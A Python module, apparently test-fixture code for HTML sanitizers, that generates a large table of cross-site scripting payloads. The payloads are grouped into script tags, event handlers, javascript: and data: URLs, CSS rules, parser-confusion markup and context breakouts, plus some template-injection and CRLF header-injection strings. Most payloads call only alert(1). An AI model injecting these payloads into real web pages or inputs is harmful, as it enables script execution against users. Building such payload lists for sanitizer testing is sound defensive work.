"""A table of what tries to run a script where others read. Whatever runs calls `alert`.

It is made of parts, so that each way in meets each disguise: the families are those that browsers
are known for (scripts, handlers, addresses, styles, texts that two parsers read differently, and
the signs that close what a text stands in)."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

CALL = "alert(1)"


def _scripts() -> Iterator[str]:
    for start, end in (
        ("<script>", "</script>"), ("<ScRiPt>", "</sCrIpT>"), ("<script/x>", "</script>"),
        ("<script\n>", "</script\t>"), ("<scr<script>ipt>", "</scr</script>ipt>"),
        ("<script\x0ctype=text/javascript>", "</script>"), ("<svg><script>", "</script></svg>"),
        ("<math><script>", "</script></math>"), ("<\x00script>", "</script>"),
        ("<script type=module>", "</script>"), ("<<script>", "//</script>"), ("<script>", ""),
        ("<svg><script href=data:,alert(1)>", ""), ("<svg><script>alert&lpar;1)//", "</script>"),
        ("<template><script>", "</script></template>"), ("<script>/*", "*/alert(1)/*</script>*/"),
        ("<noscript><script>", "</script></noscript>"), ("<frameset><script>", "</script>"),
    ):  # fmt: skip
        yield f"{start}{CALL}{end}"
    yield "<script src=data:text/javascript,alert(1)></script>"
    yield '<script src="//example.invalid/x.js"></script>'
    yield "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"
    yield '<object data="data:text/html,<script>alert(1)</script>"></object>'
    yield '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'
    yield '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">'
    yield "<base href='javascript:/a/-alert(1)///////'><a href=../lol/safari.html>x</a>"


def _handlers() -> Iterator[str]:
    tags = (
        "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x",
        "marquee", "iframe", "select autofocus", "textarea autofocus", "a href=/ autofocus",
        "p tabindex=1 autofocus", "figure", "blockquote", "em", "li", "button autofocus", "math",
        "video><source src=x", "object data=x", "form", "style", "dialog open", "x-y tabindex=1",
    )  # fmt: skip
    handlers = (
        "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationend", "onpointerenter",
        "onbegin", "OnErRoR", "onclick", "onscroll", "onwheel", "oncontentvisibilityautostatechange",
    )  # fmt: skip
    shapes = cycle(
        (
            " {h}={c}", ' {h}="{c}"', " {h}='{c}'", "/{h}={c}", "\n{h}\n=\n{c}", "\t{h}=`{c}`",
            ' {h}="alert&#40;1)"', " {h}=&#x61;lert(1)", ' x="y"{h}="{c}"', ' {h} = "{c}//"',
            ' x=`"`{h}={c}', "\x0c{h}={c}", ' "{h}={c}', " {h}=al\\u0065rt(1)",
        )
    )  # fmt: skip
    for number, tag in enumerate(tags):
        for step in range(6):
            handler = handlers[(number + 2 * step) % len(handlers)]
            yield f"<{tag}{next(shapes).format(h=handler, c=CALL)}>x"


def _addresses() -> Iterator[str]:
    schemes = (
        f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"\x01javascript:{CALL}",
        f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"java&#x0A;script:{CALL}",
        f"javascript&colon;{CALL}", f"&#106;avascript:{CALL}", f"&#0000106avascript:{CALL}",
        f"javascript:/*--></title>*/{CALL}", f"javascript://x%0a{CALL}", f"vbscript:{CALL}",
        "data:text/html,<script>alert(1)</script>", f"\u200bjavascript:{CALL}",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"feed:javascript:{CALL}",
        "data:image/svg+xml,<svg onload=alert(1)>", f"view-source:javascript:{CALL}",
        f"javascript\x00:{CALL}", "//example.invalid/", "\\\\example.invalid\\x", "/\\example.invalid",
        f"blob:javascript:{CALL}", f"x-javascript:{CALL}", f"jav&Tab;ascript:{CALL}",
    )  # fmt: skip
    holders = cycle(
        (
            '<a href="{}">x</a>', "<img src='{}'>", '<a href=`{}`>x</a>', '<form action="{}"><button>x',
            '<blockquote cite="{}">x</blockquote>', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
            '<iframe src="{}"></iframe>', '<area href="{}">', '<button formaction="{}" form=f>x</button>',
            '<img srcset="{} 2x">', '<video poster="{}"></video>', '<link rel=stylesheet href="{}">',
            '<svg><use href="{}"></svg>', '<svg><animate attributeName=href values="{}"></svg>',
            '<table background="{}"><td>x</table>', '<input type=image src="{}">', '<track src="{}">',
            '<figure><img src="{}" alt="x"><figcaption>x</figcaption></figure>',
        )
    )  # fmt: skip
    for scheme in schemes:
        yield f'<a href="{scheme}">x</a>'
        yield from (next(holders).format(scheme) for _again in range(3))


def _styles() -> Iterator[str]:
    for rule in (
        f"background:url(javascript:{CALL})", f"width:expression({CALL})", "behavior:url(x.htc)",
        f"-moz-binding:url(data:text/xml,{CALL})", "position:fixed;inset:0;z-index:9999",
        f"background:url('&#1;javascript:{CALL}')", "animation:x 1s", "content:url(//example.invalid/)",
    ):  # fmt: skip
        yield f'<p style="{rule}">x</p>'
        yield f"<style>*{{{rule}}}</style>"
    yield "<style>@import'//example.invalid/x.css';</style>"
    yield "<style></style><img src=x onerror=alert(1)></style>"
    yield "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x"


def _read_twice() -> Iterator[str]:
    """Strings that one parser reads as text and the next as tags."""
    image = "<img src=x onerror=alert(1)>"
    yield from (
        f"<math><mtext><table><mglyph><style><!--</style>{image}",
        f'<svg></p><style><a id="</style>{image}">',
        f'<noscript><p title="</noscript>{image}">',
        f"<form><math><mtext></form><form><mglyph><style></math>{image}",
        f'<title><a href="</title>{image}">', f"<textarea></textarea>{image}",
        f'<p title="--><!-->{image}">', f"<!--><p title='-->{image}'>", f"<!-- --!>{image}",
        f"<![CDATA[<p>]]>{image}", f"<?xml version='1.0'?>{image}", f"<!doctype x '>{image}",
        f"<xmp><p title='</xmp>{image}'>", f"<plaintext>{image}", f"<noembed></noembed>{image}",
        f"<noframes><p title='</noframes>{image}'>", f"<template>{image}</template>",
        f"<select><option><style></select>{image}", f"<svg><desc>{image}</desc></svg>",
        f"<svg><foreignObject>{image}</foreignObject></svg>",
        f"<math><annotation-xml encoding='text/html'>{image}</annotation-xml></math>",
        f"<p><table><td>{image}<p></table>", f"<a<b>{image}", f"<a href='x'<b>{image}",
        f"<p ======{image}", f"</p{image}>", f"<//{image}", f"<{image}", f"<p/{image}/>",
        f"<em lang='it\"{image}'>x</em>", f"<blockquote lang='{image}'>x</blockquote>",
        f"<figcaption>{image}</figcaption>",
        f"<svg><p><style><!--</style><p title='-->{image}'>",
    )  # fmt: skip


def _breaking_out() -> Iterator[str]:
    """Strings that close the attribute, the element, the file or the line in which they stand."""
    image, script = "<img src=x onerror=alert(1)>", "<script>alert(1)</script>"
    for sign in ('"', "'", "`", '">', "'>", "-->", "]]>", "*/", "\\", "\\'", '\\"', "}", "</"):
        yield f"{sign}{image}"
        yield f"{sign} onmouseover=alert(1) x={sign}"
    for name in (
        "title",
        "textarea",
        "script",
        "style",
        "noscript",
        "template",
        "option",
        "a",
        "p",
    ):
        yield f"</{name}>{script}"
    for name in ("item", "channel", "url", "loc", "entry", "description"):
        yield f"</{name}>{script}"
    yield from (
        "{{ 7|add:7 }}{% debug %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{constructor}}",
        "\u2028alert(1)\u2029", "a%0d%0aSet-Cookie: a=b", "a\r\nLocation: //example.invalid/",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
        "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\ufeff<script>alert(1)</script>", "\u202e>tpircs<", "\u3008script\u3009alert(1)",
        "<scrıpt>alert(1)</scrıpt>", "<ſcript>alert(1)</ſcript>", "javascript:alert(1)",
    )  # fmt: skip


def table() -> list[str]:
    """Return the whole table, each text once."""
    families = (_scripts, _handlers, _addresses, _styles, _read_twice, _breaking_out)
    return list(dict.fromkeys(each for family in families for each in family()))


def batched(texts: list[str], size: int) -> Iterator[list[str]]:
    yield from (texts[start : start + size] for start in range(0, len(texts), size))


def one_body(texts: list[str]) -> str:
    """A body with all of them, each in a paragraph and outside of one. What one leaves open is
    closed, or the next would be swallowed; what nothing closes comes last."""
    names = (
        "script style iframe noscript textarea title xmp noembed noframes template select svg math"
    )
    closed = "-->" + "".join(f"</{name}>" for name in names.split())
    ordered = sorted(texts, key=lambda text: "plaintext" in text)
    return "".join(f"<p>{text}</p>{closed}{text}{closed}" for text in ordered)
